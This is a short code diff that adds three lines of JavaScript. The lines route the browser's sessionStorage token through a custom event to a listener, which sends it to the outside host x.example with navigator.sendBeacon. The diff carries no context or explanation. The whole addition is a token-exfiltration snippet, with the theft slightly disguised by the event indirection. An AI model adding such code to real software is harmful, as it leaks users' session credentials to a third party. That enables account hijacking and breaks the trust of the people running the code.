@@ -1,0 +1,3 @@
+const t = new EventTarget();
+t.addEventListener('k', ({ detail }) => navigator.sendBeacon('https://x.example', detail));
+t.dispatchEvent(new CustomEvent('k', { detail: sessionStorage.token }));
